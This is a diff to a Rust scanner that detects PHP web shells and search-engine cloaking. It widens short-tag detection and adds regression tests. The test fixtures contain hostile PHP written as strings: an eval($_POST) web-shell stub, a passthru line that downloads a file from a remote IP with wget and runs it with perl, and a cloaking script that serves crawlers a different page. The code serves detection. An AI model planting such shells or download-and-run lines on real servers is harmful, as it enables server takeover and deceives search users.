@@ -543,8 +543,12 @@ pub fn named_as_nothing(name: &str) -> bool {
 }
 
 /// Where PHP's open tag (`<?php`, any case, or `<?=`) is in the first `SNIFF` bytes of a
-/// file, if it is.
+/// file, if it is; or the short tag (`<?` and a space) that starts it (old shells,
+/// fresh103's AnakDompu).
 pub fn php_tag_in_head(text: &[u8]) -> Option<usize> {
+    if text.len() > 2 && text.starts_with(b"<?") && text[2].is_ascii_whitespace() {
+        return Some(0);
+    }
     let head = &text[..text.len().min(SNIFF)];
     head.windows(5).position(|w| w[..2] == *b"<?" && (w[2..].eq_ignore_ascii_case(b"php") || w[2] == b'='))
 }
@@ -1197,6 +1201,10 @@ mod tests {
         // Nor is text mentioning PHP's tag past the head, nor a quiet ending's PHP.
         assert!(!worth_reading("x/notes.cfg", format!("{}<?php eval($_POST[1]);", " ".repeat(600)).as_bytes()));
         assert!(!worth_reading("x/hooks.inc", b"<?php eval($_POST[1]);"));
+        // An old shell's short tag starts PHP too; XML's declaration does not.
+        let short = "<?\n@passthru('cd /tmp;wget http://203.0.113.6/id/n.txt;perl n.txt');";
+        assert_eq!(whys("x/Trojan-Downloader.PHP.AnakDompu.a", short), [Why::DownloadsProgram]);
+        assert!(!worth_reading("x/feed.atom", b"<?xml version=\"1.0\"?><feed/>"));
     }
 
     #[test]
@@ -1643,6 +1651,23 @@ mod tests {
         // A theme's header chosen by the browser, nothing for search visitors.
         let header = "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') === false) { include 'parts/header.html'; } echo 'x'; exit;";
         assert!(!whys("index.php", header).contains(&Why::SearchEngineCloaking));
+        // Regression: fresh100's `page-info.php` includes one PHP page for crawlers and another
+        // for phones and computers.
+        let split = "<?php $bots = array('Googlebot', 'Bingbot'); $ua = $_SERVER['HTTP_USER_AGENT'];\n\
+            function is_bot($ua, $bots) { foreach ($bots as $b) { if (stripos($ua, $b) !== false) return true; } return false; }\n\
+            if (is_bot($ua, $bots)) { include 'page-info1.php'; exit; } elseif (is_mobile($ua)) { include 'page-info2.php'; exit; }\n\
+            else { include 'page-info2.php'; exit; }";
+        assert!(
+            whys("page-info.php", split).contains(&Why::SearchEngineCloaking),
+            "{:?}",
+            whys("page-info.php", split)
+        );
+        // The same page for crawlers and people, and a phone's own page, are no cloaking.
+        let same = split.replace("page-info1.php", "page-info2.php");
+        assert!(!whys("page-info.php", &same).contains(&Why::SearchEngineCloaking));
+        let phones =
+            split.replace("is_bot($ua, $bots)) { include 'page-info1.php'", "is_mobile($ua)) { include 'page-m.php'");
+        assert!(!whys("page-info.php", &phones).contains(&Why::SearchEngineCloaking));
     }
 
     #[test]
